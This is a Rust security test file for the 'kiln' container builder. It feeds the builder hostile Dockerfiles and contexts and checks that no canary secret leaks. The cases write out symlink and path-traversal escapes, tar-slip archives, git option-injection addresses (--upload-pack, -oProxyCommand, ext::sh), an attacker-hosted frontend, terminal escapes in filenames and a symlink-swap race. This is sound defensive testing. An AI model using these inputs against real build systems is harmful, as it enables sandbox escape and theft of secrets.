//! Dockerfiles, contexts and addresses of somebody who means harm.

use std::{
    fs,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::Command,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicUsize, Ordering},
    },
};

use image::layer::{Limits, Mode, Record, TarReader};
use rustix::fs::{CWD, FileType, makedev, mknodat};

use crate::{
    lab::{Lab, Ran, SECRET, compare, snapshot},
    naive,
    tars::Tar,
};

/// A context, a Dockerfile, and how kiln is called.
struct Case {
    name: &'static str,
    dockerfile: String,
    /// Fills the context; may write another Dockerfile.
    fill: Box<dyn Fn(&Path)>,
    args: Vec<&'static str>,
    /// What standard input gives; the context is `-` then.
    input: Option<Vec<u8>>,
}

fn case(name: &'static str, dockerfile: &str) -> Case {
    Case {
        name,
        dockerfile: dockerfile.to_owned(),
        fill: Box::new(|_| ()),
        args: vec![],
        input: None,
    }
}

impl Case {
    fn with(self, fill: impl Fn(&Path) + 'static) -> Self {
        Self { fill: Box::new(fill), ..self }
    }

    fn args(self, args: &[&'static str]) -> Self {
        Self { args: args.to_vec(), ..self }
    }

    fn input(self, input: Vec<u8>) -> Self {
        Self { input: Some(input), ..self }
    }
}

fn link(to: impl AsRef<Path>, at: PathBuf) {
    symlink(to, at).expect("linked");
}

fn pipe(at: PathBuf) {
    mknodat(CWD, at, FileType::Fifo, rustix::fs::Mode::RUSR, 0).expect("made");
}

fn write(at: PathBuf, text: impl AsRef<[u8]>) {
    fs::write(at, text).expect("written");
}

fn cases(canary: &Path) -> Vec<Case> {
    let mut all = copies(canary);
    all.extend(dockerfiles(canary));
    all.extend(mounts(canary));
    all.extend(sources(canary));
    all
}

fn copies(canary: &Path) -> Vec<Case> {
    let canary = canary.to_owned();
    let links = move |folder: &Path| {
        link(&canary, folder.join("absolute"));
        link("../canary", folder.join("relative"));
        link(canary.join("secret"), folder.join("file"));
        link("file", folder.join("second"));
        link("/proc/self/root", folder.join("proc"));
    };
    let copy =
        |name, line: &str| case(name, &format!("FROM scratch\n{line}\n")).with(links.clone());
    let special = |folder: &Path| {
        pipe(folder.join("pipe"));
        let null = makedev(1, 5);
        mknodat(CWD, folder.join("zero"), FileType::CharacterDevice, rustix::fs::Mode::RUSR, null)
            .expect("made");
        drop(std::os::unix::net::UnixListener::bind(folder.join("socket")).expect("bound"));
    };
    vec![
        copy("COPY through an absolute link", "COPY absolute/secret /"),
        copy("COPY through a relative link", "COPY relative/secret /"),
        copy("COPY of a link to a file outside", "COPY file /got"),
        copy("COPY of a link to such a link", "COPY second /got"),
        copy("COPY of a link to a folder outside", "COPY absolute /got/"),
        copy("COPY of what a wildcard finds through a link", "COPY absolute/* /got/"),
        copy("COPY of all, with its links", "COPY . /"),
        copy("COPY above the context", "COPY ../canary/secret /"),
        copy("COPY of an absolute path of the machine", "COPY /etc/passwd /"),
        copy("COPY through proc", "COPY proc/etc/passwd /"),
        copy("COPY with parents through a link", "COPY --parents absolute/./secret /"),
        copy("ADD through a link", "ADD absolute/secret /"),
        copy("COPY to above the root", "COPY --from=box /etc/passwd ../../../../canary/secret"),
        case(
            "COPY onto a link of the image",
            "FROM box\nRUN ln -s ../../../../../../canary /l && mkdir /canary\nCOPY Dockerfile /l/new\nRUN echo FA''CT $(ls /canary)",
        ),
        case("COPY of pipes, sockets and devices", "FROM scratch\nCOPY . /\n").with(special),
        case("COPY of a pipe by its name", "FROM scratch\nCOPY pipe /\n").with(special),
        case("ADD of a pipe by its name", "FROM scratch\nADD pipe /\n").with(special),
        case("COPY of names that are escapes", "FROM scratch\nCOPY . /\nCOPY missing\x1b[2J /\n")
            .with(|it| {
                write(it.join("\x1b]0;title\x07"), "x");
                write(it.join("a\nb"), "x");
                write(it.join("\u{202e}gpj.exe"), "x");
            }),
        case("COPY of names that are not UTF-8", "FROM scratch\nCOPY . /\n").with(|it| {
            use std::os::unix::ffi::OsStrExt;
            write(it.join(std::ffi::OsStr::from_bytes(b"\xff\xfe")), "x");
        }),
        case("a folder that is deeper than a path", "FROM scratch\nCOPY . /\n").with(|it| {
            let mut here =
                rustix::fs::open(it, rustix::fs::OFlags::PATH, rustix::fs::Mode::empty())
                    .expect("opened");
            for _ in 0..2500 {
                rustix::fs::mkdirat(&here, "d", rustix::fs::Mode::RWXU).expect("made");
                here = rustix::fs::openat(
                    &here,
                    "d",
                    rustix::fs::OFlags::PATH,
                    rustix::fs::Mode::empty(),
                )
                .expect("opened");
            }
        }),
        case("ADD of an archive that leads out", "FROM scratch\nADD a.tar /sub/\n").with(|it| {
            write(it.join("a.tar"), Tar::new().file("../../../../canary/secret", "x").end());
        }),
        case("ADD of an archive with a link that leads out", "FROM scratch\nADD a.tar /sub/\n")
            .with(|it| {
                write(
                    it.join("a.tar"),
                    Tar::new().symlink("l", "../../../../canary").file("l/secret", "x").end(),
                );
            }),
        case(
            "ADD of an archive with a hard link that leads out",
            "FROM scratch\nADD a.tar /sub/\n",
        )
        .with(|it| {
            write(it.join("a.tar"), Tar::new().hardlink("h", "../canary/secret").end());
        }),
        case("ADD of an archive with whiteouts", "FROM scratch\nADD a.tar /sub/\n").with(|it| {
            write(it.join("a.tar"), Tar::new().file(".wh.x", "").file(".wh..wh..opq", "").end());
        }),
        case("COPY of whiteouts", "FROM scratch\nCOPY f /a/b\nCOPY . /a/\n").with(|it| {
            write(it.join("f"), "x");
            write(it.join(".wh.b"), "");
        }),
    ]
}

fn dockerfiles(canary: &Path) -> Vec<Case> {
    let secret = canary.join("secret");
    let other = |name, make: Box<dyn Fn(PathBuf)>| {
        case(name, "").with(move |it| {
            fs::remove_file(it.join("Dockerfile")).expect("removed");
            make(it.join("Dockerfile"));
        })
    };
    let ignore = |name, make: Box<dyn Fn(PathBuf)>| {
        case(name, "FROM scratch\nCOPY . /\n").with(move |it| make(it.join(".dockerignore")))
    };
    let (one, two, three) = (secret.clone(), secret.clone(), secret);
    let many = "x".repeat(40);
    let mut stages = String::new();
    for n in 0..3000 {
        stages += &format!("FROM scratch AS s{n}\n");
    }
    let mut chain = "FROM scratch\nARG a0=xxxxxxxxxxxxxxxx\n".to_owned();
    for n in 1..60 {
        chain += &format!("ARG a{n}=$a{0}$a{0}\n", n - 1);
    }
    vec![
        other("the Dockerfile is a pipe", Box::new(pipe)),
        other("the Dockerfile is a folder", Box::new(|it| fs::create_dir(it).expect("made"))),
        other("the Dockerfile leads out", Box::new(move |it| link(&one, it))),
        other("the Dockerfile leads out, named with -f", Box::new(move |it| link(&two, it)))
            .args(&["-f", "context/Dockerfile"]),
        other("the Dockerfile is endless", Box::new(|it| link("/dev/zero", it))),
        other(
            "the Dockerfile is a device",
            Box::new(|it| {
                mknodat(CWD, it, FileType::CharacterDevice, rustix::fs::Mode::RUSR, makedev(1, 5))
                    .expect("made")
            }),
        ),
        other(
            "the Dockerfile has 4 GiB",
            Box::new(|it| fs::File::create(it).expect("made").set_len(4 << 30).expect("sparse")),
        ),
        other("the Dockerfile is empty", Box::new(|it| write(it, ""))),
        other(
            "the Dockerfile is garbage",
            Box::new(|it| write(it, (0..=255).collect::<Vec<u8>>())),
        ),
        other(
            "the Dockerfile is a link in the context",
            Box::new(|it| {
                write(it.with_file_name("real"), "FROM scratch\nCOPY real /\n");
                link("real", it);
            }),
        ),
        ignore("the ignore file is a pipe", Box::new(pipe)),
        ignore("the ignore file leads out", Box::new(move |it| link(&three, it))),
        ignore("the ignore file is endless", Box::new(|it| link("/dev/zero", it))),
        ignore(
            "the ignore file has 4 GiB",
            Box::new(|it| fs::File::create(it).expect("made").set_len(4 << 30).expect("sparse")),
        ),
        ignore(
            "the ignore file has a pattern that takes for ever",
            Box::new(|it| {
                write(it.with_file_name("a".repeat(200)), "x");
                write(it, format!("{}b\n{}b\n", "*a".repeat(60), "**/".repeat(60)));
            }),
        ),
        ignore(
            "the ignore file has 20000 patterns",
            Box::new(|it| {
                for n in 0..200 {
                    write(it.with_file_name(format!("file{n}")), "x");
                }
                write(
                    it,
                    (0..20_000).map(|n| format!("*{n}x*/**/y\n")).collect::<String>() + "file*\n",
                );
            }),
        ),
        ignore(
            "the ignore file names what is above",
            Box::new(|it| write(it, "../canary\n/../../x\n!..\n")),
        ),
        ignore("the ignore file has a class without an end", Box::new(|it| write(it, "[a-\n"))),
        case("a stage of itself", "FROM a AS a\n"),
        case("stages in a circle", "FROM b AS a\nFROM a AS b\n"),
        case("COPY from itself", "FROM scratch AS a\nCOPY --from=a / /\n"),
        case(
            "COPY from a later stage",
            "FROM scratch\nCOPY --from=later / /\nFROM scratch AS later\n",
        )
        .args(&["--target", "0"]),
        case("3000 stages", &stages),
        case("arguments that double", &chain),
        case("a line of 8 MiB", &format!("FROM scratch\nLABEL a={}\n", "x".repeat(8 << 20))),
        case("a heredoc without an end", "FROM scratch\nCOPY <<EOF /x\nabc\n"),
        case(
            "a heredoc with a name that climbs",
            "FROM scratch\nCOPY <<../../../canary/secret /x/\nabc\n../../../canary/secret\n",
        ),
        case("text that turns round", "FROM scratch\nCOPY a\u{202e}b /\n"),
        case("another frontend", "# syntax=evil.example/frontend:1\nFROM scratch\n"),
        case("FROM a layout of the machine", "FROM oci:/etc\n"),
        case("FROM an archive of the machine", "FROM docker-archive:/canary/secret\n"),
        case("FROM a folder above", "FROM ../canary\n"),
        case("FROM with an option", "FROM --privileged scratch\n"),
        case("an option that looks like one of git", "FROM scratch\nCOPY --upload-pack=x a /\n"),
        case(
            "output that moves the cursor",
            "FROM box\nRUN printf '\\033]0;title\\007\\033[2J\\033[1A\\033[31mred\\033[0m over\\rwritten\\n'; exit 3\n",
        ),
        case(
            "a name of a step that moves the cursor",
            &format!("FROM box\nRUN exit 4 #\x1b[2J\x1b]0;t\x07{many}\n"),
        ),
    ]
}

fn mounts(canary: &Path) -> Vec<Case> {
    let out = canary.display().to_string();
    let run = |name, mount: &str, command: &str| {
        case(
            name,
            &format!(
                "FROM box\nRUN ln -s /proc /p && ln -s /dev /d && ln -s /sys/fs /s && ln -s /etc /e && ln -s {out} /out && ln -s / /root\nRUN --mount={mount} {command}\nRUN echo FA''CT $(find /etc /x* /proc/[a-z]*[x-z] -xdev -path '*/new*' 2>/dev/null) .\n"
            ),
        )
    };
    let nested = |name, prepare: &str, target: &str| {
        case(
            name,
            &format!(
                "FROM box\nRUN --mount=type=cache,target=/c {prepare}\nRUN --mount=type=cache,target=/c --mount=type=tmpfs,target={target} true\nRUN echo FA''CT $(ls -d /etc/new /etc/new/* /c /new 2>/dev/null) .\n"
            ),
        )
    };
    vec![
        run("a mount on the root", "type=tmpfs,target=/", "true"),
        run("a mount on the root, the long way", "type=tmpfs,target=/etc/..", "true"),
        run("a mount on /proc", "type=tmpfs,target=/proc", "true"),
        run("a mount below /proc", "type=tmpfs,target=/proc/self/fd", "true"),
        run("a mount on /sys", "type=tmpfs,target=/sys/kernel", "true"),
        run("a mount on /dev", "type=tmpfs,target=/dev", "true"),
        run(
            "a mount on a device",
            "type=bind,from=box,source=/etc/passwd,target=/dev/null",
            "true",
        ),
        run(
            "a mount above the root",
            "type=tmpfs,target=../../../new",
            "echo FA''CT $(ls -d /new)",
        ),
        run("a mount that a link leads to /proc", "type=tmpfs,target=/p/new", "true"),
        run("a mount that a link leads to /dev", "type=tmpfs,target=/d/new", "true"),
        run("a mount that a link leads to /sys", "type=tmpfs,target=/s/new", "true"),
        run("a secret that a link leads to /proc", "type=secret,id=s,target=/p/self/mem", "true")
            .args(&["--secret", "id=s,src=context/Dockerfile"]),
        run("a mount that a link leads out of the image", "type=tmpfs,target=/out/new", "true"),
        run("a mount that a link leads to another folder", "type=tmpfs,target=/e/new", "true"),
        run(
            "a cache with an id that climbs",
            "type=cache,id=../../../../canary,target=/c",
            "touch /c/new",
        ),
        run(
            "a cache with an id of bytes",
            "type=cache,id=\"a/b\\t\x01\",target=/c",
            "touch /c/new",
        ),
        run(
            "a cache with a source that climbs",
            "type=cache,target=/c,from=box,source=../../..",
            "ls /c/bin/busybox",
        ),
        run(
            "a bind of what is above a stage",
            "type=bind,from=box,source=../..,target=/m",
            "ls -d /m/bin /m/canary",
        ),
        run(
            "a bind of a link to the root",
            "type=bind,from=box,source=/bin/../..,target=/m,rw",
            "touch /m/new",
        ),
        run(
            "a bind of the context through a link",
            "type=bind,source=l,target=/m",
            "cat /m/secret",
        )
        .with({
            let canary = canary.to_owned();
            move |it| link(&canary, it.join("l"))
        }),
        run(
            "a bind that is written, and forgotten",
            "type=bind,target=/m,rw",
            "rm /m/Dockerfile && touch /m/new && chmod 4777 /m",
        ),
        run("a bind with propagation", "type=bind,bind-propagation=shared,target=/m", "true"),
        run("a bind with two sources", "type=bind,source=a,source=b,target=/m", "true"),
        run("a mount of an unknown type", "type=devpts,target=/m", "true"),
        run("a tmpfs of an absurd size", "type=tmpfs,target=/m,size=99999999999999999999", "true"),
        run("a secret over the users", "type=secret,id=s,target=/etc/passwd", "id -u")
            .args(&["--secret", "id=s,src=context/Dockerfile"]),
        run(
            "a mount that is replaced by a link to the canary",
            "type=tmpfs,target=/a/b",
            "sh -c 'mv /a /z; ln -s /out /a; true'",
        ),
        nested("a mount in a cache, where a link leads to /etc", "ln -sfn /etc /c/x", "/c/x/new/y"),
        nested(
            "a mount in a cache, where a link leads to /proc",
            "ln -sfn /proc /c/x",
            "/c/x/self",
        ),
        nested("a mount in a cache, where a link climbs", "ln -sfn ../../.. /c/x", "/c/x/new"),
        nested(
            "a mount in a cache, through a link inside of it",
            "sh -c 'mkdir -p /c/y && ln -sfn y /c/x'",
            "/c/x/new",
        ),
        case(
            "a privileged command that nobody allowed",
            "FROM box\nRUN --security=insecure true\n",
        ),
        case("a network that nobody allowed", "FROM box\nRUN --network=host true\n"),
        case("an unknown security", "FROM box\nRUN --security=INSECURE true\n"),
        case("a device", "FROM box\nRUN --device=/dev/sda true\n"),
    ]
}

fn sources(canary: &Path) -> Vec<Case> {
    let out = canary.display().to_string();
    let add = |name, source: &str| case(name, &format!("FROM scratch\nADD {source} /x/\n"));
    let tar = |name, tar: Tar| case(name, "").input(tar.end());
    let dockerfile = "FROM scratch\nCOPY . /\n";
    vec![
        add("ADD of a file of the machine as an address", "file:///etc/passwd"),
        add("ADD by another protocol", "ftp://127.0.0.1/x"),
        add("a branch that is an option", "https://127.0.0.1:1/x.git#--upload-pack=touch"),
        add("a branch that is a pattern", "https://127.0.0.1:1/x.git#refs/*:refs/*"),
        add("a folder of a repository that climbs", "https://127.0.0.1:1/x.git#main:../../etc"),
        add("a host that is an option", "ssh://-oProxyCommand=touch/x.git"),
        add("a short address whose host is an option", "git@-oProxyCommand=touch:x.git"),
        add("a transport that runs commands", "ext::sh%20-c%20touch%20x.git"),
        add("a repository that is a folder of the machine", "file:///canary.git"),
        add("an address with a line break", "https://127.0.0.1:1/%0aHost:x"),
        tar(
            "a context with a file above it",
            Tar::new().file("Dockerfile", dockerfile).file("../canary/secret", "x"),
        ),
        tar(
            "a context with an absolute path",
            Tar::new().file("Dockerfile", dockerfile).file(&format!("{out}/secret"), "x"),
        ),
        tar(
            "a context with a link, then through it",
            Tar::new().file("Dockerfile", dockerfile).symlink("l", &out).file("l/secret", "x"),
        ),
        tar(
            "a context whose Dockerfile leads out",
            Tar::new().symlink("Dockerfile", &format!("{out}/secret")),
        ),
        tar(
            "a context whose Dockerfile is a link, then written",
            Tar::new()
                .symlink("Dockerfile", &format!("{out}/secret"))
                .file("Dockerfile", dockerfile),
        ),
        tar(
            "a context with a hard link out",
            Tar::new().file("Dockerfile", dockerfile).hardlink("h", &format!("{out}/secret")),
        ),
        tar(
            "a context that is cut short",
            Tar::new().file("Dockerfile", dockerfile).header(b'0', b"f", "", 0o644, 1 << 20),
        ),
        tar("a context without a Dockerfile", Tar::new().file("f", "x")),
        tar("a context that is a pipe", Tar::new().fifo("Dockerfile")),
    ]
}

#[test]
fn privileged_hostile_contexts_have_the_outcome_that_is_written_down() {
    let lab = Lab::with_box();
    let before = snapshot(&lab.canary());
    let (mut outcomes, mut wrong) = (Vec::new(), Vec::new());
    let context = lab.path("context");
    for case in cases(&lab.canary()) {
        let _ = Command::new("rm").arg("-rf").arg(&context).arg(lab.path("out.tar")).status();
        fs::create_dir(&context).expect("made");
        fs::write(context.join("Dockerfile"), &case.dockerfile).expect("written");
        (case.fill)(&context);
        let place = if case.input.is_some() { "-" } else { "context" };
        let fixed = ["build", "--no-cache", "--progress", "plain", "-o", "type=tar,dest=out.tar"];
        let ran = lab.run_with(
            &[&fixed[..], &case.args, &[place]].concat(),
            case.input.as_deref().unwrap_or_default(),
        );
        let outcome = outcome(&lab, &ran);
        wrong.extend(lab.wrong(&before).map(|it| format!("{}: {it}", case.name)));
        let said = ran.err.replace("\x1b[31m", "").replace("\x1b[0m", "");
        if said.contains(['\x1b', '\x07', '\u{202e}', '\r']) {
            wrong.push(format!("{}: escapes: {said:?}", case.name));
        }
        if ran.err.contains(SECRET) || outcome.contains(SECRET) {
            wrong.push(format!("{}: the canary is seen: {}", case.name, ran.err));
        }
        outcomes.push((case.name.to_owned(), lab.plain(&outcome)));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    assert!(outcomes.len() > 60, "there are {}", outcomes.len());
    compare("contexts.expected", &outcomes);
}

/// What went wrong, or what the image has, and what its commands say.
fn outcome(lab: &Lab, ran: &Ran) -> String {
    if ran.status != Some(0) {
        let hint = ran.err.lines().find(|it| it.starts_with("hint: "));
        let text = [Some(ran.error()), hint].into_iter().flatten().collect::<Vec<_>>().join("\n");
        let short: String = text.chars().take(400).collect();
        return format!("{short} [{}]", ran.status.unwrap_or(-1));
    }
    let facts =
        ran.err.lines().filter_map(|it| it.split_once(" FACT ").map(|(_, it)| it.to_owned()));
    let mut lines: Vec<String> = facts.map(|it| format!("says {it}")).collect();
    let file = fs::File::open(lab.path("out.tar")).expect("an output");
    let mut reader = TarReader::with(file, Mode::Archive, Limits::default());
    let mut content = Vec::new();
    while let Some(record) = reader.next().expect("a good tar") {
        let Record::Entry(entry) = record else { continue };
        // The base is not of interest.
        let is_base = [&b"bin"[..], b"etc/passwd", b"dev", b"proc", b"sys", b"tmp", b"etc"]
            .iter()
            .any(|it| entry.path == *it || *it == b"bin" && entry.path.starts_with(b"bin/"));
        if !is_base {
            let kind = format!("{:?}", entry.kind);
            let kind = kind.split([' ', '{']).next().unwrap_or_default().to_owned();
            content.push(format!("{} {kind}", entry.path.escape_ascii()));
        }
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut reader, &mut bytes).expect("readable");
        if String::from_utf8_lossy(&bytes).contains(SECRET) {
            content.push(format!("{} has what is outside: {SECRET}", entry.path.escape_ascii()));
        }
    }
    if content.len() > 30 {
        content = vec![format!("{} entries", content.len())];
    }
    lines.extend(content);
    if lines.is_empty() { "nothing".to_owned() } else { lines.join("\n") }
}

/// The control: what a careless builder would have read for the same contexts.
#[test]
fn privileged_hostile_contexts_trip_a_careless_program() {
    let lab = Lab::new();
    let context = lab.path("context");
    fs::create_dir(&context).expect("made");
    link(lab.canary(), context.join("absolute"));
    link("../canary", context.join("relative"));
    link(lab.canary().join("secret"), context.join("Dockerfile"));
    for path in ["absolute/secret", "relative/secret", "../canary/secret", "Dockerfile"] {
        let read = naive::read(&context, path);
        assert_eq!(read.as_deref(), Some(SECRET.as_bytes()), "{path}: harms nobody");
    }
    let folder = naive::cache_folder(&lab.path("store/mounts"), "../../canary/new");
    fs::create_dir_all(lab.path("store/mounts")).expect("made");
    fs::create_dir_all(folder).expect("made");
    assert!(lab.canary().join("new").exists(), "a cache's id leads out");
}

/// Somebody swaps a folder of the context for a link, and back, all the while.
#[test]
fn privileged_a_context_that_changes_under_a_copy_shows_nothing_of_what_is_outside() {
    let lab = Lab::with_box();
    let before = snapshot(&lab.canary());
    let context = lab.path("context");
    let inner = context.join("swap");
    fs::create_dir_all(&inner).expect("made");
    write(inner.join("secret"), "inside");
    write(context.join("Dockerfile"), "FROM scratch\nCOPY swap /swap\n");
    link(lab.canary(), context.join("link"));
    let stop = Arc::new(AtomicBool::new(false));
    let n_seen = Arc::new(AtomicUsize::new(0));
    let swapper = {
        let (stop, context, n_seen) = (Arc::clone(&stop), context.clone(), Arc::clone(&n_seen));
        std::thread::spawn(move || {
            let (one, other) = (context.join("swap"), context.join("link"));
            while !stop.load(Ordering::Relaxed) {
                let flags = rustix::fs::RenameFlags::EXCHANGE;
                rustix::fs::renameat_with(CWD, &one, CWD, &other, flags).expect("swapped");
                // The control: somebody careless reads in between.
                if naive::read(&context, "swap/secret").is_some_and(|it| it == SECRET.as_bytes()) {
                    n_seen.fetch_add(1, Ordering::Relaxed);
                }
                std::thread::yield_now();
            }
        })
    };
    let mut wrong = Vec::new();
    for _ in 0..25 {
        let _ = fs::remove_file(lab.path("out.tar"));
        let args = ["build", "--no-cache", "-q", "-o", "type=tar,dest=out.tar", "context"];
        let ran = lab.run(&args);
        let got = fs::read(lab.path("out.tar")).unwrap_or_default();
        if String::from_utf8_lossy(&got).contains(SECRET) || ran.err.contains(SECRET) {
            wrong.push(ran.err);
        }
    }
    stop.store(true, Ordering::Relaxed);
    swapper.join().expect("it ends");
    assert!(n_seen.load(Ordering::Relaxed) > 0, "the race is real");
    assert!(wrong.is_empty(), "{wrong:?}");
    lab.check("a race", &before);
}

/// A folder that is exported into has been prepared by somebody.
#[test]
fn privileged_an_export_does_not_follow_what_is_in_its_folder() {
    let lab = Lab::with_box();
    let before = snapshot(&lab.canary());
    let context = lab.path("context");
    fs::create_dir(&context).expect("made");
    write(
        context.join("Dockerfile"),
        "FROM scratch\nCOPY d /d\nCOPY secret /secret\nCOPY d/secret /e/secret\n",
    );
    fs::create_dir(context.join("d")).expect("made");
    write(context.join("d/secret"), "x");
    write(context.join("secret"), "x");
    let out = lab.path("out");
    fs::create_dir(&out).expect("made");
    link(lab.canary(), out.join("d"));
    link(lab.canary().join("secret"), out.join("secret"));
    fs::create_dir_all(out.join("e/secret/below")).expect("made");
    let ran = lab.run(&["build", "-o", "out", "context"]);
    assert_eq!(ran.status, Some(0), "{}", ran.err);
    for path in ["d/secret", "secret", "e/secret"] {
        assert_eq!(fs::read_to_string(out.join(path)).expect("written"), "x", "{path}");
    }
    assert!(out.join("d").symlink_metadata().expect("there").is_dir());
    lab.check("an export", &before);
}
